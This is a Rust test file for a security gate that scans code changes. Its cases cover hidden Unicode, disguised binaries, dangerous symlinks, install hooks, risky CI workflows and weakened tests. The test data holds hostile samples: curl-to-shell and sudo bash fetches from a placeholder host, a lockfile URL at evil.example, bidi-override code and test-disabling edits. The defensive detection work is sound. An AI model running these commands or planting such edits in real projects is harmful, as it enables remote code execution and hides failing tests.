//! Every rule on what it is for, and on its benign twin.

use cofferdam_domain::{
    Change, Digest, FileMode, Policy,
    Severity::{self, Blocking, Note, Warning},
    change::{FileSide, Kept, MAX_CONTENT},
};
use cofferdam_gate::{GatePolicy, examine};

use crate::changes::{added, deleted, file, findings, modified, side, worst};

#[test]
fn hidden_unicode_by_kind_and_place() {
    let run: String = "\u{200b}\u{2060}".repeat(12);
    let cases: &[(&str, String, Option<Severity>)] = &[
        ("a.rs", "let access = \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\";".into(), Some(Blocking)),
        ("a.md", "\u{2067}עברית\u{2069}".into(), Some(Warning)),
        ("a.rs", "// tags \u{e0049}\u{e0067}".into(), Some(Blocking)),
        ("a.md", "tags \u{e0049}".into(), Some(Blocking)),
        ("a.py", "pass\u{200b}word = 1".into(), Some(Blocking)),
        ("a.py", "x = '\u{200b}'".into(), Some(Warning)),
        ("a.md", "a \u{200b} b".into(), Some(Note)),
        ("a.js", format!("x = '{run}'"), Some(Blocking)),
        ("a.js", "const {\u{3164}} = query;".into(), Some(Blocking)),
        ("a.js", "x = 'a\u{fe00}\u{fe01}\u{fe02}'".into(), Some(Blocking)),
        ("a.c", "int p\u{430}ssword;".into(), Some(Blocking)),
        ("a.sh", "echo \u{1b}[2K hidden".into(), Some(Warning)),
        ("p\u{430}.rs", "fn main() {}".into(), Some(Blocking)),
        ("a\u{202e}.rs", "fn main() {}".into(), Some(Blocking)),
        ("a.rs", "let s = \"👨‍👩‍👧 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣\"; // ελληνικά, кириллица, 中文，العربية".into(), None),
        ("fa.po", "msgstr \"می‌خواهم\"".into(), None),
        ("a.rs", "\u{feff}fn main() {}\r\n".into(), None),
    ];
    for (path, content, expected) in cases {
        assert_eq!(worst("hidden-unicode", vec![added(path, content)]), *expected, "{path}: {content:?}");
    }
    // What was there before is not this change's doing.
    let old = "x = '\u{202e}'\n";
    assert_eq!(worst("hidden-unicode", vec![modified("a.py", old, format!("{old}y = 1\n"))]), None);
}

#[test]
fn binaries_by_what_they_are() {
    let cases: &[(&str, &[u8], Option<Severity>)] = &[
        ("tool", b"\x7fELF\x02\x01\x01\0", Some(Blocking)),
        ("logo.png", b"\x89PNG\r\n\x1a\n\0\0", Some(Warning)),
        ("logo.png", b"\x7fELF\0\0", Some(Blocking)),
        ("fake.png", b"\0\0\0\0", Some(Blocking)),
        ("a.jar", b"PK\x03\x04\x14\0", Some(Blocking)),
        ("a.txt", b"caf\xe9 latin", Some(Warning)),
        ("a.txt", b"\xff\xfea\0", Some(Blocking)),
        ("a.md", b"MZ is a magic", None),
        ("a.txt", "naïve".as_bytes(), None),
        ("empty", b"", None),
    ];
    for (path, content, expected) in cases {
        assert_eq!(worst("binary", vec![added(path, content)]), *expected, "{path}");
    }
    assert_eq!(worst("binary", vec![deleted("tool", b"\x7fELF\0")]), None);
}

#[test]
fn size_and_minified_programs() {
    let unseen =
        FileSide { mode: FileMode::Regular, object: "0".repeat(40), size: MAX_CONTENT + 1, content: None };
    assert_eq!(worst("oversize", vec![file("a.bin", None, Some(unseen))]), Some(Blocking));
    let minified = "var a=1;".repeat(2_000);
    assert_eq!(worst("oversize", vec![added("a.js", &minified)]), Some(Blocking));
    assert_eq!(worst("oversize", vec![added("a.json", &minified)]), Some(Note));
    let table = format!("{}\nconst X: &str = \"{}\";\n", "let a = 1;\n".repeat(2_000), "x".repeat(5_000));
    assert_eq!(worst("oversize", vec![added("a.rs", &table)]), Some(Warning));
    assert_eq!(worst("oversize", vec![modified("a.js", &minified, format!("{minified}\nlet b;\n"))]), None);
    assert_eq!(worst("oversize", vec![added("a.rs", "fn main() {}\n".repeat(90_000))]), Some(Warning));
    assert_eq!(worst("oversize", vec![added("a.rs", "fn main() {}\n")]), None);
}

#[test]
fn links_modes_and_submodules() {
    let link = |target: &str| file("a/link", None, Some(side(FileMode::Symlink, target.as_bytes())));
    assert_eq!(worst("symlink", vec![link("/etc/passwd")]), Some(Blocking));
    assert_eq!(worst("symlink", vec![link("../../outside")]), Some(Blocking));
    assert_eq!(worst("symlink", vec![link("../b")]), Some(Note));
    let gitlink = || Some(side(FileMode::Gitlink, b""));
    assert_eq!(worst("gitlink", vec![file("sub", None, gitlink())]), Some(Blocking));
    assert_eq!(worst("gitlink", vec![file("sub", gitlink(), None)]), Some(Warning));
    let executable = |content: &str| Some(side(FileMode::Executable, content.as_bytes()));
    assert_eq!(worst("mode", vec![file("run.sh", None, executable("#!/bin/sh\n"))]), Some(Note));
    assert_eq!(
        worst("mode", vec![file("data", Some(side(FileMode::Regular, b"x")), executable("x"))]),
        Some(Warning)
    );
    assert_eq!(worst("mode", vec![file("run", executable("a"), executable("b"))]), None);
}

#[test]
fn contents_that_lfs_keeps_elsewhere() {
    let pointer = |digit: char| {
        let digits: String = std::iter::repeat_n(digit, 64).collect();
        format!("version https://git-lfs.github.com/spec/v1\noid sha256:{digits}\nsize 12345\n")
    };
    assert_eq!(worst("lfs", vec![added("a.bin", pointer('1'))]), Some(Blocking));
    assert_eq!(worst("lfs", vec![modified("a.bin", pointer('1'), pointer('2'))]), Some(Blocking));
    assert_eq!(worst("lfs", vec![modified("a.bin", pointer('1'), "content")]), Some(Warning));
    let unseen =
        FileSide { mode: FileMode::Regular, object: "0".repeat(40), size: MAX_CONTENT + 1, content: None };
    let grown = file("a.bin", Some(side(FileMode::Regular, pointer('1').as_bytes())), Some(unseen));
    assert_eq!(worst("lfs", vec![grown]), Some(Warning));
    assert_eq!(worst("lfs", vec![deleted("a.bin", pointer('1')), added("b.bin", pointer('1'))]), None);
    assert_eq!(
        worst("lfs", vec![added("notes.md", format!("A pointer looks like this:\n{}", pointer('1')))]),
        None
    );
    assert_eq!(worst("lfs", vec![added("a.bin", format!("{}{}", pointer('1'), "x".repeat(1024)))]), None);
}

#[test]
fn contents_for_lfs_are_examined() {
    let policy = GatePolicy::new(&Policy::default()).unwrap();
    let found = |kept: Option<Kept>| {
        let name = Digest::of(b"name");
        let pointer = format!("version https://git-lfs.github.com/spec/v1\noid {name}\nsize 12345\n");
        let kept = kept.into_iter().map(|kept| (name, kept)).collect();
        let change = Change { files: vec![added("a.bin", pointer)], kept, ..Change::default() };
        let findings = examine(&change, &policy);
        findings.into_iter().map(|finding| (finding.rule, finding.severity)).collect::<Vec<_>>()
    };
    let new =
        |content: &[u8]| Some(Kept::New { size: content.len() as u64, content: Some(content.to_vec()) });
    let of = |rule: &str, severity| (rule.to_owned(), severity);
    assert_eq!(found(None), [of("lfs", Blocking)]);
    assert_eq!(found(Some(Kept::Known)), []);
    assert_eq!(found(Some(Kept::New { size: 9 << 20, content: None })), [of("lfs", Blocking)]);
    assert_eq!(found(new(b"\0\x01 pixels")), [of("lfs", Warning)]);
    assert_eq!(found(new(b"\x7fELF\0")), [of("lfs", Blocking)]);
    let key = ["-----BEGIN RSA PRIVATE", " KEY-----\n", &"MIIEpAIBAAKCAQEA7mPq".repeat(4), "\n"].concat();
    assert_eq!(found(new(key.as_bytes())), [of("secret", Blocking), of("lfs", Warning)]);
    assert_eq!(found(new("if a\u{202e} {}\n".as_bytes()))[0].0, "hidden-unicode");
}

#[test]
fn paths_that_mean_something_else_elsewhere() {
    for (path, expected) in [
        (&b"a/\xff.rs"[..], Some(Blocking)),
        (b"a\nb", Some(Blocking)),
        (b".GIT/config", Some(Blocking)),
        (b"sub/git~1/config", Some(Blocking)),
        (b"a/../b", Some(Blocking)),
        (b"a//b", Some(Blocking)),
        (b"src/aux.rs", Some(Warning)),
        (b"a:b", Some(Warning)),
        (b"trailing.", Some(Warning)),
        (b"src/main.rs", None),
        ("docs/\u{65e5}\u{672c}\u{8a9e}.md".as_bytes(), None),
    ] {
        assert_eq!(worst("path", vec![added(path, "x")]), expected, "{}", String::from_utf8_lossy(path));
    }
    assert_eq!(worst("path", vec![added("README", "x"), added("readme", "x")]), Some(Blocking));
    assert_eq!(worst("path", vec![deleted("README", "x"), added("readme", "x")]), None);
}

/// Git obeys the settings of any folder that has the form of a repository, among them names of programs.
#[test]
fn a_folder_cannot_become_a_repository() {
    let id = "0".repeat(40);
    for content in ["ref: refs/heads/main\n", "ref:\trefs/heads/main", &id] {
        assert_eq!(worst("path", vec![added("docs/HEAD", content)]), Some(Blocking), "{content}");
    }
    let link = side(FileMode::Symlink, b"refs/heads/main");
    assert_eq!(worst("path", vec![file("x/head", None, Some(link))]), Some(Blocking));
    assert_eq!(worst("path", vec![added("HEAD", "ref: refs/heads/main")]), Some(Blocking));
    assert_eq!(worst("path", vec![added("docs/HEAD", "How to use the HEAD method\n")]), None);
    assert_eq!(worst("path", vec![added("head.rs", "ref: x")]), None);
}

#[test]
fn links_that_lead_out_by_way_of_another_link() {
    let link = |path: &str, target: &str| file(path, None, Some(side(FileMode::Symlink, target.as_bytes())));
    assert_eq!(worst("symlink", vec![link("a/b/up", "../.."), link("out", "a/b/up/..")]), Some(Blocking));
    assert_eq!(worst("symlink", vec![link("ci", "a/b/up/.github/workflows")]), Some(Blocking));
}

#[test]
fn tests_that_say_less() {
    let two = "def test_a():\n    assert f() == 1\n\ndef test_b():\n    assert g() == 2\n";
    let one = "def test_a():\n    assert f() == 1\n";
    let rule = "removed-tests";
    assert_eq!(worst(rule, vec![modified("tests/test_x.py", two, one)]), Some(Warning));
    assert_eq!(worst(rule, vec![deleted("tests/test_x.py", two)]), Some(Warning));
    assert_eq!(worst(rule, vec![modified("tests/test_x.py", one, two)]), None);
    // Moved to another file of the same change.
    assert_eq!(worst(rule, vec![deleted("tests/test_x.py", two), added("tests/test_y.py", two)]), Some(Note));
    let skipped = format!("@pytest.mark.skip\n{one}");
    assert_eq!(worst(rule, vec![modified("tests/test_x.py", one, &skipped)]), Some(Warning));
    assert_eq!(worst(rule, vec![modified("tests/test_x.py", &skipped, one)]), None);
    let weaker = "def test_a():\n    f()\n";
    assert_eq!(worst(rule, vec![modified("tests/test_x.py", one, weaker)]), Some(Warning));
    let empty = "def test_a():\n    assert True\n";
    assert_eq!(worst(rule, vec![modified("tests/test_x.py", one, empty)]), Some(Warning));
    let inline = "fn f() {}\n#[test]\nfn a() { assert!(x) }\n";
    assert_eq!(worst(rule, vec![modified("src/lib.rs", inline, "fn f() {}\n")]), Some(Warning));
    assert_eq!(
        worst(rule, vec![modified("src/lib.rs", inline, inline.replace("#[test]", "#[test]\n#[ignore]"))]),
        Some(Warning)
    );
    assert_eq!(worst(rule, vec![modified("a.test.ts", "it('x', f)", "it.skip('x', f)")]), Some(Warning));
    assert_eq!(
        worst(rule, vec![modified("a.test.ts", "it('x', f)\nit('y', f)", "it.only('x', f)\nit('y', f)")]),
        Some(Warning)
    );
    assert_eq!(
        worst(rule, vec![added("tests/conftest.py", "def pytest_runtest_makereport(item, call): ...\n")]),
        Some(Warning)
    );
    assert_eq!(worst(rule, vec![modified("src/app.py", "assert x\nassert y\n", "assert x\n")]), None);
}

#[test]
fn test_commands_that_always_succeed() {
    let rule = "removed-tests";
    for (path, old, new, expected) in [
        (
            "package.json",
            "{\"scripts\":{\"test\":\"jest\"}}",
            "{\"scripts\":{\"test\":\"true\"}}",
            Some(Blocking),
        ),
        (
            "package.json",
            "{\"scripts\":{\"test\":\"jest\"}}",
            "{\"scripts\":{\"test\":\"jest || true\"}}",
            Some(Blocking),
        ),
        ("package.json", "{}", "{\"scripts\":{\"test\":\"node --test\"}}", None),
        ("Makefile", "test:\n\tcargo test\n", "test:\n\tcargo test || true\n", Some(Blocking)),
        ("Makefile", "", "clean:\n\ttest -d x && rm -r x || true\n", Some(Warning)),
        ("pyproject.toml", "fail_under = 90\n", "fail_under = 50\n", Some(Warning)),
        ("pyproject.toml", "fail_under = 50\n", "fail_under = 90\n", None),
        ("jest.config.js", "branches: 80,\nlines: 80,\n", "branches: 10,\nlines: 80,\n", Some(Warning)),
        ("Cargo.toml", "[lib]\n", "[lib]\ntest = false\n", Some(Warning)),
        ("src/a.py", "x = f()\n", "x = f()  # type: ignore\n", Some(Note)),
        ("src/a.py", "x = f()\n", "x = g()\n", None),
    ] {
        assert_eq!(worst(rule, vec![modified(path, old, new)]), expected, "{path}: {new}");
    }
}

#[test]
fn dependencies_and_code_that_runs_on_installation() {
    let rule = "dependency";
    assert_eq!(worst(rule, vec![modified("Cargo.toml", "a = \"1\"\n", "a = \"2\"\n")]), Some(Note));
    let package = |scripts: &str| format!("{{\"scripts\":{{{scripts}}}}}\n");
    let postinstall = package("\"postinstall\": \"node x.js\"");
    assert_eq!(worst(rule, vec![modified("package.json", package(""), postinstall)]), Some(Warning));
    assert_eq!(worst(rule, vec![added("build.rs", "fn main() {}\n")]), Some(Warning));
    let lock = "\"resolved\": \"https://packages.example/a.tgz\"\n";
    let other = format!("{lock}\"resolved\": \"https://evil.example/b.tgz\"\n");
    let same = format!("{lock}\"resolved\": \"https://packages.example/b.tgz\"\n");
    assert_eq!(worst(rule, vec![modified("package-lock.json", lock, other)]), Some(Warning));
    assert_eq!(worst(rule, vec![modified("package-lock.json", lock, same)]), Some(Note));
    assert_eq!(worst(rule, vec![modified("src/a.rs", "a", "b")]), None);
}

#[test]
fn dangerous_pipelines_and_scripts() {
    let rule = "workflow-danger";
    let workflow = |text: &str| vec![added(".github/workflows/ci.yml", text)];
    for text in [
        "on: pull_request_target\n",
        "permissions: write-all\n",
        "runs-on: [self-hosted, linux]\n",
        "run: echo ${{ github.event.issue.title }}\n",
        "run: curl -sSf https://x.example/i.sh | sh\n",
        "secrets: inherit\n",
    ] {
        assert_eq!(worst(rule, workflow(text)), Some(Blocking), "{text}");
    }
    assert_eq!(
        worst(rule, workflow("on: pull_request\npermissions:\n  contents: read\nrun: cargo test\n")),
        None
    );
    for text in [
        "curl -fsSL https://x.example/i | sudo bash\n",
        "bash <(curl https://x.example)\n",
        "eval \"$(wget -qO- x)\"\n",
    ] {
        assert_eq!(worst(rule, vec![added("install.sh", text)]), Some(Warning), "{text}");
    }
    assert_eq!(
        worst(
            rule,
            vec![added("fetch.sh", "curl -o x.tar https://x.example | tee log\nwget x && sh -c 'ls'\n")]
        ),
        None
    );
    assert_eq!(worst(rule, vec![added("README.md", "curl https://x.example/i.sh | sh\n")]), None);
}

#[test]
fn many_findings_are_counted_and_keep_their_severity() {
    let files = (0..500).map(|number| added(format!("d{number}/AGENTS.md"), "x")).collect();
    let all = findings(files);
    let ours: Vec<_> = all.iter().filter(|finding| finding.rule == "protected-path").collect();
    assert_eq!(ours.len(), 41);
    assert!(
        ours.iter()
            .any(|finding| finding.why.starts_with("and 460 findings more") && finding.severity == Blocking)
    );
    assert!(all.is_sorted_by(|left, right| left.severity >= right.severity));
}
